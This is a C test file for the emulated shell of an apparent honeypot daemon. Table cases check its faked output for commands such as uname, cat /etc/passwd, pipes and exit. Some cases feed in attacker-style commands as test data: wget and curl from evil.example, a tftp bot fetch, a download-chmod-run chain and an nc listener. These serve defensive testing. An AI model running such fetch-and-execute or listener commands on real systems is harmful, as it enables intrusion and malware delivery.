/*
 * The fake shell, table-driven: each case types lines into a fresh shell of
 * a session that is never flushed, then reads what it queued for the client
 * (sess->outq) and checks what must and must not be there.
 */
#include <stdlib.h>
#include <string.h>

#include "decoyd.h"
#include "moat_test.h"

struct sh_case {
	const char *name;
	const char *user;
	const char *lines[6];
	const char *want[4];     /* substrings of the output */
	const char *not[2];      /* substrings that must not appear */
	int         exits;       /* the last line exits the shell */
};

static const struct sh_case sh_cases[] = {
	{ "uname -a", "root", { "uname -a" },
	  { "Linux testhost 6.1.0-18-amd64 #1 SMP", "x86_64 GNU/Linux\r\n" }, { NULL }, 0 },
	{ "uname -r", "root", { "uname -r" }, { "6.1.0-18-amd64\r\n" }, { "Linux testhost" }, 0 },
	{ "id root", "root", { "id" }, { "uid=0(root) gid=0(root)" }, { NULL }, 0 },
	{ "id user", "bob", { "id", "whoami" }, { "uid=1000(bob)", "bob\r\n" }, { NULL }, 0 },
	{ "pwd home", "bob", { "pwd" }, { "/home/bob\r\n" }, { NULL }, 0 },
	{ "cd and pwd", "root", { "cd /var/www/html", "pwd", "cd ..", "pwd" },
	  { "/var/www/html\r\n", "/var/www\r\n" }, { NULL }, 0 },
	{ "cd missing", "root", { "cd /nope" },
	  { "-bash: cd: /nope: No such file or directory" }, { NULL }, 0 },
	{ "cd file", "root", { "cd /etc/passwd" }, { "Not a directory" }, { NULL }, 0 },
	{ "cat passwd", "root", { "cat /etc/passwd" },
	  { "root:x:0:0:root:/root:/bin/bash\r\n", "admin:x:1000" }, { NULL }, 0 },
	{ "pipe head", "root", { "cat /etc/passwd | head -2" },
	  { "root:x:0:0:root:/root:/bin/bash\r\ndaemon:x:1:1:" }, { "bin:x:2:2", "admin:x" }, 0 },
	{ "pipe tail -n", "root", { "cat /etc/passwd | tail -n 1" }, { "admin:x:1000" },
	  { "root:x:0:0" }, 0 },
	{ "pipe grep wc", "root", { "cat /etc/passwd | grep -v nologin | wc -l" }, { "3\r\n" },
	  { "root:x" }, 0 },
	{ "pipe grep -c -i", "root", { "cat /etc/passwd | grep -ci ROOT" }, { "1\r\n" }, { NULL }, 0 },
	{ "pipe sort -r", "root", { "echo b; echo a | sort -r" }, { "b\r\na\r\n" }, { NULL }, 0 },
	{ "pipe unknown", "root", { "cat /etc/passwd | awk -F: '{print $1}'" },
	  { "-bash: awk: command not found\r\n" }, { "root:x" }, 0 },
	{ "pipe bad head", "root", { "uname | head -n x" }, { "head: invalid number of lines" },
	  { "Linux" }, 0 },
	{ "or is not a pipe", "root", { "false || uname" }, { "Linux\r\n" }, { NULL }, 0 },
	{ "cat hostname", "root", { "cat /etc/hostname" }, { "testhost\r\n" }, { NULL }, 0 },
	{ "cat missing", "root", { "cat /etc/nope" },
	  { "cat: /etc/nope: No such file or directory" }, { NULL }, 0 },
	{ "cat dir", "root", { "cat /etc" }, { "cat: /etc: Is a directory" }, { NULL }, 0 },
	{ "dotdot escapes nothing", "root", { "cat ../../../../etc/passwd" },
	  { "root:x:0:0" }, { NULL }, 0 },
	{ "ls root", "root", { "ls /" }, { "bin  boot  dev  etc  home" }, { "proc/" }, 0 },
	{ "ls -la hidden", "root", { "ls -la /home/admin" }, { ".bash_history", "total 8" },
	  { NULL }, 0 },
	{ "ls hides dotfiles", "root", { "ls /home/admin" }, { NULL }, { ".bash_history" }, 0 },
	{ "echo", "root", { "echo hello   'big world'" }, { "hello big world\r\n" }, { NULL }, 0 },
	{ "echo -n", "root", { "echo -n x" }, { "x" }, { "x\r\n" }, 0 },
	{ "unknown", "root", { "nc -lvp 4444" }, { "-bash: nc: command not found\r\n" },
	  { NULL }, 0 },
	{ "unknown path", "root", { "./x.sh" }, { "-bash: ./x.sh: No such file or directory" },
	  { NULL }, 0 },
	{ "wget", "root", { "wget http://evil.example/x.sh" },
	  { "Resolving evil.example (evil.example)... failed",
	    "unable to resolve host address \xe2\x80\x98" "evil.example" }, { NULL }, 0 },
	{ "wget -O", "root", { "wget -O /tmp/a http://e.example:8080/b" },
	  { "  http://e.example:8080/b\r\n", "Resolving e.example " }, { NULL }, 0 },
	{ "curl", "root", { "curl -s -o x http://evil.example/y" },
	  { "curl: (6) Could not resolve host: evil.example" }, { NULL }, 0 },
	{ "tftp", "root", { "tftp -g -r bot 203.0.113.5" }, { "Transfer timed out." }, { NULL }, 0 },
	{ "chain", "root", { "cd /tmp; wget http://a.example/b && chmod +x b; ./b" },
	  { "Resolving a.example", "chmod: cannot access 'b'", "-bash: ./b: No such file" },
	  { NULL }, 0 },
	{ "chmod other's file", "bob", { "chmod 777 /etc/passwd" },
	  { "Operation not permitted" }, { NULL }, 0 },
	{ "history", "root", { "id", "uname", "history" },
	  { "    1  id\r\n", "    2  uname\r\n", "    3  history\r\n" }, { NULL }, 0 },
	{ "ps", "bob", { "ps aux" }, { "/sbin/init", "bob " }, { NULL }, 0 },
	{ "ip a", "root", { "ip a" }, { "inet 10.20.0.23/24" }, { NULL }, 0 },
	{ "ifconfig", "root", { "ifconfig" }, { "eth0: flags=4163" }, { NULL }, 0 },
	{ "non-utf8 stays valid", "root", { "echo \xff\xfe" }, { "??\r\n" }, { "\xff" }, 0 },
	{ "exit", "root", { "exit" }, { "logout\r\n" }, { NULL }, 1 },
	{ "exit in chain", "root", { "id; exit; id" }, { "uid=0", "logout" }, { NULL }, 1 },
	{ "weird user name", "../../x y", { "pwd" }, { "/home/....xy\r\n" }, { NULL }, 0 },
	{ NULL, NULL, { NULL }, { NULL }, { NULL }, 0 }
};

static void
case_table(void)
{
	static struct dd_conf conf;
	const struct sh_case *c;
	struct dd_session s;
	struct dd_shell *sh;
	char *out;
	size_t i;
	int rc;

	conf.d.hostname = "testhost";
	conf.d.kernel = "6.1.0-18-amd64";
	conf.d.kernel_version = "#1 SMP PREEMPT_DYNAMIC Debian 6.1.76-1 (2024-02-01)";
	conf.d.issue = "Debian GNU/Linux 12";
	for (c = sh_cases; c->name != NULL; c++) {
		memset(&s, 0, sizeof(s));
		s.fd = 1000;            /* never written: output stays queued */
		s.conf = &conf;
		s.pers = &dd_telnet;
		if ((sh = shell_new(&s, c->user)) == NULL)
			TEST_FATAL("shell_new");
		s.outq_len = 0;         /* drop the banner */
		rc = 0;
		for (i = 0; i < TEST_NELEM(c->lines) && c->lines[i] != NULL; i++)
			rc = shell_line(sh, c->lines[i]);
		if ((out = malloc(s.outq_len + 1)) == NULL)
			TEST_FATAL("malloc");
		memcpy(out, s.outq, s.outq_len);
		out[s.outq_len] = '\0';
		for (i = 0; i < TEST_NELEM(c->want) && c->want[i] != NULL; i++)
			if (strstr(out, c->want[i]) == NULL)
				TEST_FAIL("%s: want \"%s\" in \"%s\"", c->name, c->want[i], out);
		for (i = 0; i < TEST_NELEM(c->not) && c->not[i] != NULL; i++)
			if (strstr(out, c->not[i]) != NULL)
				TEST_FAIL("%s: \"%s\" must not be in \"%s\"", c->name, c->not[i], out);
		TEST_INT_EQ(c->name, rc, c->exits);
		free(out);
		shell_free(sh);
		free(s.outq);
	}
}

static const struct test_case cases[] = {
	{ "table", case_table },
	{ NULL, NULL }
};

int
main(void)
{
	return test_run(cases);
}
